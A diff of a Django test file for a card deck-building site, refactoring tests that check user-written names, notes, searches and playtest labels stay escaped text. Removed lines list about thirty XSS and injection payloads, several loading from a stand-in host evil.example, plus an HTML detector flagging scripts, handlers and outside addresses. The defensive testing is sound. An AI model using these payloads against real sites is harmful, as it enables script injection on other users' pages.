@@ -1,93 +1,16 @@
 """What people write (names, notes, searches, imported lines, versions) stays text on every page that shows it."""
 
-import re
-from html.parser import HTMLParser
-from urllib.parse import urlencode
-
-from django.test import Client
 from django.urls import reverse
 
 from deckbuilder.decks import lists, services
 from deckbuilder.decks.models import Deck, DeckLine, Visibility
 from deckbuilder.decks.to_games import to_deck
-from tests.deckbuilder.base import XLW, SiteTest
-
-ATTACKS = (
-    "<script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "--><script>alert(1)</script><!--",
-    "</script><script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg/onload=alert(1)>",
-    '" autofocus onfocus="alert(1)',
-    "' onmouseover='alert(1)",
-    "` onclick=alert(1) `",
-    "<iframe src=javascript:alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example><button>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<math><mi xlink:href=javascript:alert(1)>",
-    "<object data=//evil.example>",
-    "<template><script>alert(1)</script></template>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "{{ 7*7 }}{% include 'x' %}${alert(1)}",
-    "%s %(name)s {name} {0.__class__}",
-    "=HYPERLINK('//evil.example')",
-    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
-    "[[<img src=x onerror=alert(1)>]]",
-    "<x hx-get=//evil.example hx-trigger=load>",
-)
-ALLOWED_OUTSIDE = re.compile(r"(?:/|#|\?|\./|https?://(?:testserver|localhost)|mailto:|$)")
+from deckbuilder.playtest.models import Playtest
+from tests.deckbuilder.attacks import ATTACKS, AttacksTest, wrong_on
+from tests.deckbuilder.base import XLW
 
 
-ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "data", "xlink:href")
-
-
-class Page(HTMLParser):
-    """Whatever on a page could run, load or lead elsewhere."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.wrong: list[tuple[str, str | None]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        found = dict(attrs)
-        ours = (found.get("src") or "").startswith("/static/") or found.get("type") == "application/json"
-        if tag == "script" and not ours:
-            self.wrong.append((tag, str(found)))
-        if tag in ("iframe", "object", "embed", "base", "style", "math", "template"):
-            self.wrong.append((tag, None))
-        if tag == "meta" and "http-equiv" in found:
-            self.wrong.append((tag, str(found)))
-        for name, value in attrs:
-            if name.startswith("on") or name == "style":
-                self.wrong.append((name, value))
-            elsewhere = not ALLOWED_OUTSIDE.match(value or "") or (value or "").startswith("//")
-            if elsewhere and name in ADDRESSES:
-                self.wrong.append((name, value))
-
-    handle_startendtag = handle_starttag
-
-
-class AttacksTest(SiteTest):
-    def harmless(self, browser: Client, address: str, **query: str) -> None:
-        answer = browser.get(f"{address}?{urlencode(query)}" if query else address, follow=True)
-        assert answer.status_code in (200, 404, 422), address
-        policy = answer["Content-Security-Policy"]
-        assert "script-src 'self'" in policy or "default-src 'self'" in policy
-        assert "'unsafe-inline'" not in policy
-        page = Page()
-        page.feed(answer.content.decode())
-        page.close()
-        assert page.wrong == [], address
-
+class DeckAttacksTest(AttacksTest):
     def written_on(self, number: int) -> Deck:
         """A deck with attacks in all that can be written on it."""
         deck = self.deck({"提燈小狐": 2}, visibility=Visibility.PUBLIC)
@@ -117,9 +40,7 @@ class AttacksTest(SiteTest):
         for form in lists.FORMS:
             text = lists.write(to_deck(deck), form)
             answer = self.as_bob.post("/decks/import/", {"text": text, "game": XLW, "action": "check"})
-            page = Page()
-            page.feed(answer.content.decode())
-            assert page.wrong == [], form
+            assert wrong_on(answer.content.decode()) == [], form
         exported = self.as_visitor.get(reverse("decks:export", args=[deck.slug, "txt"]))
         assert exported["Content-Type"].startswith("text/plain")
         assert exported["X-Content-Type-Options"] == "nosniff"
@@ -135,14 +56,25 @@ class AttacksTest(SiteTest):
             self.harmless(self.as_alice, f"/{XLW}/cards/", q=attack)
             self.harmless(self.as_alice, "/decks/public/", q=attack)
             html = self.as_alice.get(f"/{XLW}/complete/", {"q": attack}).content.decode()
-            page = Page()
-            page.feed(html)
-            assert page.wrong == []
+            assert wrong_on(html) == []
 
     def test_names_of_a_playtest(self) -> None:
         deck = self.sample_deck("xing-ling-wang/lantern-parade", visibility=Visibility.PUBLIC)
         deck = services.edit(deck, [("rename", {"name": ATTACKS[5]})]).deck
         answer = self.as_alice.post(reverse("playtest:start", args=[deck.slug]), {"seed": 7})
-        for attack in ATTACKS[:6]:
-            self.as_alice.post(f"{answer['Location']}label/", {"node": "0", "label": attack[:60]})
-        self.harmless(self.as_alice, answer["Location"])
+        address, playtest = answer["Location"], Playtest.objects.get()
+        at = 0
+        for place, attack in enumerate(ATTACKS):
+            sent = {"at": at, "do": "token", "token": attack[:40], "to": "board"}
+            if place % 2:
+                sent = {"at": at, "do": "mark +1", "cards": place % 3, "mark": attack[:40]}
+            at = int(self.as_alice.post(f"{address}do/", sent)["Location"].rpartition("=")[2])
+            self.as_alice.post(f"{address}label/", {"at": at, "label": attack[:60], "note": f"{attack}\n{attack}"})
+        assert playtest.nodes.filter(label__in=[each[:60] for each in ATTACKS]).count() == len(ATTACKS)
+        for path in ("", "?log=all", "tree/"):
+            self.harmless(self.as_alice, f"{address}{path}")
+            self.harmless(self.as_visitor, f"{address}{path}")
+        self.harmless(self.as_visitor, reverse("playtest:watch", args=[playtest.watch_slug]))
+        for path, kind in (("log.txt", "text/plain; charset=utf-8"), ("log.json", "application/json")):
+            exported = self.as_visitor.get(f"{address}{path}")
+            assert (exported["Content-Type"], exported["X-Content-Type-Options"]) == (kind, "nosniff")
